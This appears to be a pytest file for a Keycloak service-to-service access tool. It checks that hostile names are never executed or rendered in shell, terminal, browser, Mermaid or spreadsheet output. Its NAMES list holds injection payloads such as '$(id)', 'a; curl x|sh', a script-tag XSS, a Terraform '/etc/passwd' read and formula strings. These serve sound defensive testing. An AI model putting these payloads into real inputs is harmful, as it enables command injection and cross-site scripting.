"""Names that a shell, a terminal, a browser, Mermaid, Terraform or a spreadsheet would act on: each is text in every output.

One landscape has every name as client, audience, role, scope and route. Each command shows it, and each form is read by who would act on it.
"""

import html
import json
import logging
import os
import pty
import re
import subprocess
import sys
from collections.abc import Callable, Iterable, Mapping
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, Final
from xml.etree import ElementTree as ET

import pytest
from typer.testing import CliRunner, Result

from s2s_fastapi import require_caller, require_realm_role, require_role, require_scope
from s2s_fastapi.cli.commands import command_line
from s2s_fastapi.decision import Decision, Reason
from s2s_fastapi.declared.access_file import AccessFile, AppAccess, CallAccess, RouteEntry
from s2s_fastapi.errors import ConfigurationError
from s2s_fastapi.names import name_problem, scope_problem
from s2s_fastapi.operations.forbidden import forbidden_scope
from s2s_fastapi.operations.graph import as_mermaid
from s2s_fastapi.operations.plan import make_plan, question_of
from s2s_fastapi.operations.realm_file import RealmFile
from s2s_fastapi.operations.realm_json import carried_out
from s2s_fastapi.operations.relations import relations
from s2s_fastapi.operations.snapshot import read_snapshot
from s2s_fastapi.operations.wanted import granting, wanted
from s2s_fastapi.realm.entities import Role
from s2s_fastapi.realm.model import RealmModel
from s2s_fastapi.requirement.requirement import Audience, Caller
from s2s_fastapi.telemetry.decision_log import DecisionLog
from s2s_fastapi.text import named
from tests.cli.command import COMMAND, dev, environment
from tests.kit.admin_rest import FakeKeycloak
from tests.operations.place import Place
from tests.operations.schemas import valid

NAMES: Final = (
    "$(id)",
    "`id`",
    "a; curl x|sh",
    "a&id",
    '"><script>alert(1)</script>',
    "</script><!--",
    "${x}",
    '${file("/etc/passwd")}',
    "%{ if true }x",
    "a|b",
    "=1+1",
    "@SUM(1)",
    "[link=x]y[/link]",
    "[/team]",
    ":key:",
    '"] ; click s0 "javascript:alert(1)"',
    "--yes",
    "it's",
    "back\\slash",
    "%s{}",
    "é",
    "n" * 255,
    "https://tools.example.com/mcp?a=$(id)&b='><script>",
)
SCOPES: Final = tuple(name for name in NAMES if not scope_problem(name) and not forbidden_scope(name))
REFUSED: Final = {
    "a mark that turns the writing": "\u202egnp.exe",
    "a line break": "a\nb",
    "a carriage return": "a\rb",
    "an escape": "\x1b[31mred",
    "a separator of lines": "a\u2028b",
    "a blank at the end": "a ",
    "nothing": "",
    "256 characters": "n" * 256,
}
BACKSLASH: Final = "back\\slash"
"""Keycloak drops the backslash from the name of the client under which a token has its roles, so a route never finds them."""
HUB: Final = "hub"
REALM: Final = "[bold]r"


def apps() -> tuple[AppAccess, ...]:
    """Return an app for each name, and one that calls all of them and that all of them call."""
    found = []
    for name in NAMES:
        route = require_caller(HUB) & require_role(name, client=name)
        requires = route & require_scope(name) if name in SCOPES else route
        own = (RouteEntry(f"/{name}", ("GET",), requires=requires),)
        call = CallAccess((HUB,), (), (f"http://{HUB}",))
        found.append(AppAccess(name, Caller("service") & Audience(frozenset({name})), own, calls=(call,)))
    hub = RouteEntry("/", ("GET",), requires=require_caller(*NAMES))
    calls = tuple(CallAccess((name,), ()) for name in NAMES)
    return (*found, AppAccess(HUB, Caller("service") & Audience(frozenset({HUB})), (hub,), calls=calls))


class Landscape:
    """The files of the landscape."""

    def __init__(self, folder: Path) -> None:
        self.access = folder / "access.json"
        self.access.write_text(AccessFile(apps()).text, encoding="utf-8")
        empty = {"realm": REALM, "enabled": True}
        needed, findings = wanted(apps(), realm=REALM)
        snapshot = read_snapshot(RealmFile(empty, version="26.7.3"), question_of(needed))
        self.document = carried_out(empty, make_plan(snapshot, needed, findings, server="", issuer=""))
        self.realm, self.empty = folder / "realm.json", folder / "empty.json"
        self.realm.write_text(json.dumps(self.document))
        self.empty.write_text(json.dumps(empty))
        # For each name, something declared and not granted: so every finding has its name.
        for client in self.document["clients"]:
            client["defaultClientScopes"] = ["basic"]
        self.broken = folder / "broken.json"
        self.broken.write_text(json.dumps(self.document))


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> Landscape:
    return Landscape(tmp_path_factory.mktemp("hostile"))


def run(*arguments: object, env: Mapping[str, str] | None = None, stdin: str = "") -> Result:
    return CliRunner().invoke(command_line(), list(map(str, arguments)), env=env, input=stdin, catch_exceptions=False)


def is_text(shown: str, names: Iterable[str] = NAMES) -> None:
    """Hold that every name is shown in full, and that nothing in the output changes a terminal."""
    assert all(line.isprintable() for line in shown.split("\n"))
    for name in names:
        assert name in shown or named(name)[1:-1] in shown, name


@pytest.fixture(scope="module")
def shell(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """Give a shell in which our command prints its arguments, and everything else leaves a trace."""
    folder = tmp_path_factory.mktemp("bin")
    for name, script in {
        "s2s-fastapi": 'printf "%s\\n" "$@"',
        **dict.fromkeys(("id", "curl", "sh", "touch"), f'printf x >> "{folder}/executed"'),
    }.items():
        (folder / name).write_text(f"#!/bin/sh\n{script}\n")
        (folder / name).chmod(0o755)

    def words(script: str) -> list[str]:
        done = subprocess.run(
            ["/bin/sh", "-c", script], env={"PATH": str(folder)}, capture_output=True, text=True, check=True, timeout=20
        )
        assert not (folder / "executed").exists(), script
        assert done.stderr == ""
        return done.stdout.splitlines()

    return words


# Refused


@pytest.mark.parametrize("what", REFUSED)
def test_a_name_that_is_none_is_one_sentence_in_every_command(what: str, tmp_path: Path) -> None:
    name, file = REFUSED[what], tmp_path / "access.json"
    content = json.loads(AccessFile(apps()[-2:]).text)
    changes: tuple[Callable[[Any], None], ...] = (
        lambda app: app.update(client_id=name),
        lambda app: app["calls"][0].update(audiences=[name]),
        lambda app: app["calls"][0].update(scopes=[name]),
        lambda app: app["routes"][0].update(requires={"role": [name], "client": "crm"}),
        lambda app: app["routes"][0].update(requires={"scope": [name]}),
    )
    for change in changes:
        changed = json.loads(json.dumps(content))
        change(changed["apps"][0])
        with pytest.raises(ConfigurationError):
            AccessFile.parse(json.dumps(changed).encode())
        file.write_text(json.dumps(changed))
    for command in (
        ("graph", file),
        ("plan", file, "--realm-file", file),
        ("access", "check", file, "--realm-file", file),
        ("explain", "--client", "x", "--realm-file", file, "--access", file),
    ):
        done = run(*command)
        assert done.exit_code == 2, command
        assert done.stdout == ""
        assert len(done.stderr.split("\n")) == 2, command
        assert done.stderr.strip("\n").isprintable()
        assert "access.json" in done.stderr


def test_every_other_name_is_one() -> None:
    assert [name for name in NAMES if name_problem(name)] == []
    assert len(SCOPES) > 10


# In a terminal


def test_plan_shows_each_name(files: Landscape) -> None:
    for realm in (files.empty, files.broken):
        done = run("plan", files.access, "--realm-file", realm)
        assert done.exit_code in (1, 2)
        is_text(done.output)
        printed = run("plan", files.access, "--realm-file", realm, "--json").stdout
        assert printed.isascii()
        assert {token["caller"] for token in valid(printed, "plan")["tokens"]} <= {*NAMES, HUB}


def test_apply_carries_out_each_name(tmp_path: Path) -> None:
    allowed = [app for app in apps() if app.client_id in ("$(id)", "--yes", HUB)]
    (tmp_path / "access.json").write_text(AccessFile(tuple(allowed)).text)
    server = FakeKeycloak()
    with server.serving() as environment_:
        done = run("apply", tmp_path / "access.json", "--yes", "--secrets", tmp_path / "secrets", env=environment_)

    is_text(done.output, ("$(id)", "--yes"))
    assert server.client_id("$(id)")
    assert server.client_id("--yes")
    assert sorted(file.name for file in (tmp_path / "secrets").iterdir()) == [
        "$(id).secret",
        "--yes.secret",
        "hub.secret",
    ]


@pytest.mark.parametrize("realm", ["realm", "broken"])
def test_access_check_and_graph_show_each_name(files: Landscape, realm: str) -> None:
    file = getattr(files, realm)
    checked = run("access", "check", files.access, "--realm-file", file, "--json").stdout
    assert checked.isascii()
    text = "\n".join(finding["text"] for finding in valid(checked, "access-check")["findings"])
    assert text.isprintable() or all(line.isprintable() for line in text.split("\n"))
    table = run("graph", files.access, "--realm-file", file)
    is_text(table.output)
    if realm == "broken":
        is_text(run("access", "check", files.access, "--realm-file", file).output)


def test_explain_shows_each_name(files: Landscape) -> None:
    for name in NAMES:
        asked = ("explain", f"--client={HUB}", f"--to={name}", "--realm-file", files.realm, "--access", files.access)
        done = run(*asked)
        assert done.exit_code == (name == BACKSLASH), (name, done.output)
        is_text(done.output, (name,))
    printed = run("explain", "--client=$(id)", f"--to={HUB}", "--realm-file", files.realm, "--json").stdout
    assert printed.isascii()
    assert valid(printed, "explain")["question"]["client"] == "$(id)"
    record = {"reason": "caller_not_allowed", "client_id": "${x}", "route": "/[/team]", "method": "GET", "cure": "`id`"}
    is_text(run("explain", stdin=json.dumps(record)).output, ("/[/team]", "`id`"))


def test_token_and_doctor_show_each_name(place: Place) -> None:
    for name in NAMES[:3]:
        place.issuer.faults.clear()
        place.set(client_id=name, client_secret="not-the-secret")
        for command in (("token", f"--for={name}"), ("doctor",)):
            done = place.run(*command)
            assert done.exit_code == 1
            is_text(done.output, (name,))


def test_a_terminal_of_80_columns_gets_no_style_and_no_link_from_a_name(files: Landscape) -> None:
    shown = {}
    for command in (("graph", str(files.access)), ("plan", str(files.access), "--realm-file", str(files.empty))):
        shown[command[0]] = text = _in_a_terminal(*command)
        plain = re.sub(r"\x1b\[[0-9;]*m", "", text)  # styles, which are ours
        assert all(line.isprintable() for line in plain.split("\n"))
        joined = "".join(plain.split())
        for name in NAMES:
            if len(name) < 20 and command[0] == "plan":
                assert "".join(named(name)[1:-1].split()) in joined, name
    # A name that is shown as it is begins in the style of its row.
    styles = {code for text in shown.values() for code in re.findall(r"\x1b\[([0-9;]*)m", text)}
    assert styles <= {"", "0", "1", "1;31", "32", "31", "33"}


def _in_a_terminal(*arguments: str) -> str:
    master, slave = pty.openpty()
    try:
        given = environment(TERM="xterm-256color", COLUMNS="80", LINES="50")
        with subprocess.Popen([*COMMAND, *arguments], env=given, stdout=slave, stderr=slave, stdin=slave) as process:
            os.close(slave)
            parts = []
            while part := _part(master):
                parts.append(part)
            process.wait(30)
    finally:
        os.close(master)
    return b"".join(parts).decode().replace("\r\n", "\n")


def _part(descriptor: int) -> bytes:
    try:
        return os.read(descriptor, 65_536)
    except OSError:  # Linux says so when the other end is closed
        return b""


# In a shell


def test_the_option_that_grants_is_one_word_of_a_shell(files: Landscape, shell: Any) -> None:
    expected, lines = [], []
    for name in NAMES:
        for option, text in (
            (granting(name, audience=name), f"{name}:audience={name}"),
            (granting(name, name), f"{name}:scope={name}"),
            (granting(name, Role(name, name)), f"{name}:role={name}/{name}"),
            (granting(name, Role("", name)), f"{name}:realm-role={name}"),
        ):
            lines.append(f"s2s-fastapi plan {option}")
            expected += ["plan", "--grant", text]
    assert shell("\n".join(lines)) == expected


def test_each_option_that_a_plan_prints_is_one_word_and_is_taken(tmp_path: Path, shell: Any) -> None:
    """The realm has these roles of its own, so each caller needs a grant."""
    called = RouteEntry("/", ("GET",), requires=require_caller(*NAMES) & require_realm_role(NAMES[0]))
    hub = AppAccess(HUB, Caller("service") & Audience(frozenset({HUB})), (called,))
    callers = [AppAccess(name, None, calls=(CallAccess((HUB,), ()),)) for name in NAMES]
    (tmp_path / "access.json").write_text(AccessFile((hub, *callers)).text)
    roles = {"realm": [{"name": name} for name in NAMES]}
    (tmp_path / "realm.json").write_text(json.dumps({"realm": "r", "enabled": True, "roles": roles}))
    command = ("plan", tmp_path / "access.json", "--realm-file", tmp_path / "realm.json", "--json")

    findings = json.loads(run(*command).stdout)["findings"]
    options = [found[1] for each in findings for found in [re.search(r"(--grant .*) grants it", each["text"])] if found]
    grants = [shell(f"s2s-fastapi {option}") for option in options]
    after = json.loads(run(*command, *(word for grant in grants for word in grant)).stdout)

    assert len(options) >= len(NAMES)
    assert all(len(grant) == 2 for grant in grants)
    assert {step["client"] for step in after["steps"] if step["do"] == "grant_role"} == {*NAMES}


class _Kept(logging.Handler):
    def __init__(self, records: list[logging.LogRecord]) -> None:
        super().__init__()
        self.records = records

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


def test_the_command_of_the_decision_log_is_words_of_a_shell(shell: Any) -> None:
    log = logging.getLogger("tests.hostile")
    log.propagate = False
    records: list[logging.LogRecord] = []
    log.addHandler(_Kept(records))
    for name in NAMES:
        DecisionLog(log).decided(
            Decision(
                reason=Reason.CALLER_NOT_ALLOWED,
                client_id=name,
                receiver=name,
                cure="c",
                route=f"/{name}",
                method="GET",
            )
        )
    commands = [record.__dict__["explain"] for record in records]

    assert len(records) == len(NAMES)
    assert all(record.getMessage().isprintable() for record in records)
    left = [name for name, command in zip(NAMES, commands, strict=True) if not command]
    assert {"$(id)", "`id`", "a; curl x|sh", "${x}"} <= {*NAMES} - {*left}
    assert shell("\n".join(filter(None, commands))) == [
        word for name in NAMES if name not in left for word in ("explain", "--client", name, "--to", name)
    ]


def test_what_dev_prints_is_a_script_that_sets_each_name(tmp_path: Path, shell: Any) -> None:
    clients = [{"clientId": name, "secret": f"s {name}", "serviceAccountsEnabled": True} for name in NAMES]
    (tmp_path / "realm.json").write_text(json.dumps({"realm": REALM, "enabled": True, "clients": clients}))
    with dev(tmp_path / "realm.json", clients=len(NAMES)) as running:
        script = running.text

    assert all(line.isprintable() for line in script.split("\n"))
    asked = re.sub(
        r"(?m)^(export KEYCLOAK_CLIENT_SECRET=.*)$",
        r'\1\ns2s-fastapi "$KEYCLOAK_CLIENT_ID" "$KEYCLOAK_CLIENT_SECRET"',
        script,
    )
    assert sorted(zip(*[iter(shell(asked))] * 2, strict=True)) == sorted((name, f"s {name}") for name in NAMES)


# In a browser, in Mermaid


class _Page(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.inside: dict[str, str] = {}
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, tuple(attrs)))

    def handle_data(self, data: str) -> None:
        if self.seen and self.seen[-1][0] == "script" and data.strip():
            attributes = dict(self.seen[-1][1])
            self.inside[str(attributes.get("id") or "script")] = data


def test_the_page_has_no_element_and_no_attribute_of_a_name(files: Landscape, tmp_path: Path) -> None:
    run("graph", files.access, "--realm-file", files.broken, "--html", tmp_path / "graph.html")
    text = (tmp_path / "graph.html").read_text(encoding="utf-8")
    plain = tmp_path / "plain.json"
    plain.write_text(AccessFile(apps()[-1:]).text.replace(json.dumps(NAMES[0]), '"x"'))
    run("graph", plain, "--html", tmp_path / "plain.html")

    def elements(page: str) -> list[tuple[str, tuple[tuple[str, str | None], ...]]]:
        return [one for one in _Page(page).seen if one[0] != "meta"]

    assert elements(text) == elements((tmp_path / "plain.html").read_text(encoding="utf-8"))
    page = _Page(text)
    data = page.inside["data"]
    assert not {"<", "&"} & {*data}
    assert {*json.loads(data)["receivers"]} == {*NAMES, HUB}
    (policy,) = [
        dict(attrs)["content"] for tag, attrs in page.seen if dict(attrs).get("http-equiv") == "Content-Security-Policy"
    ]
    assert "unsafe" not in str(policy)
    assert not re.search(
        r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(|Function\(", page.inside["script"]
    )


_NODE: Final = re.compile(r'  s\d+\["((?:[A-Za-z0-9]|#\d+;)*)"\]')
_EDGE: Final = re.compile(r'  s\d+ [-=.<>ox]+(?:\|"[a-z ]+"\|)? s\d+')
_STYLE: Final = re.compile(r"  linkStyle \d+(?:,\d+)* stroke:#c62828,stroke-width:3px")


def test_mermaid_has_the_names_in_escaped_labels_only(files: Landscape) -> None:
    file = AccessFile(apps())
    text = as_mermaid(relations([file], RealmModel.read(json.loads(files.broken.read_text()))))
    printed = run("graph", files.access, "--realm-file", files.broken, "--mermaid").stdout
    first, *lines = printed.splitlines()

    assert printed == text
    assert first == "flowchart LR"
    assert all(any(form.fullmatch(line) for form in (_NODE, _EDGE, _STYLE)) for line in lines)
    labels = {html.unescape(found[1].replace("#", "&#")) for line in lines if (found := _NODE.fullmatch(line))}
    assert labels == {*NAMES, HUB}


# In the process that reads an app


APP = """
from fastapi import Depends, FastAPI
from s2s_fastapi import ServiceAuthMiddleware, ServiceTokenAuth, KeycloakSettings, require_caller, require_role
NAMES = {names!r}
SETTINGS = KeycloakSettings(url="http://127.0.0.1:1", realm="r", client_id={client!r}, client_secret="not-asked")
app = FastAPI()
app.add_middleware(ServiceAuthMiddleware, settings=SETTINGS, audience=NAMES[0])
for number, name in enumerate(NAMES):
    app.add_api_route("/" + str(number) + name.replace("{{", "(").replace("}}", ")"), lambda: None, dependencies=[Depends(require_caller(name) & require_role(name))])
for number, name in enumerate(NAMES):
    globals()["caller_" + str(number)] = ServiceTokenAuth(audience=name, settings=SETTINGS)
"""


def _of_app(folder: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    (folder / "hostile_app.py").write_text(APP.format(names=NAMES, client="$(id)"))
    given = environment(PYTHONPATH=os.pathsep.join(sys.path), COLUMNS="400")
    return subprocess.run(
        [*COMMAND, *arguments], cwd=folder, env=given, capture_output=True, text=True, timeout=60, check=False
    )


def test_access_shows_each_name_of_an_app(tmp_path: Path) -> None:
    done = _of_app(tmp_path, "access", "hostile_app:app", "--out", "access.json")
    assert done.returncode == 0, done.stderr
    (app,) = AccessFile.read(tmp_path / "access.json").apps
    assert app.client_id == "$(id)"
    assert {name for call in app.calls for name in call.audiences} == {*NAMES}
    assert len(app.routes) >= len(NAMES)


def test_attack_shows_each_route(tmp_path: Path) -> None:
    done = _of_app(tmp_path, "attack", "hostile_app:app", "--only", "no-token", "--json", "r.json", "--junit", "r.xml")
    assert done.returncode in (0, 1, 2), done.stderr
    assert "Traceback" not in done.stderr
    is_text(done.stdout, [name.replace("{", "(").replace("}", ")") for name in NAMES if len(name) < 100])
    assert (tmp_path / "r.json").read_text().isascii()
    ET.parse(tmp_path / "r.xml")  # noqa: S314 - our own
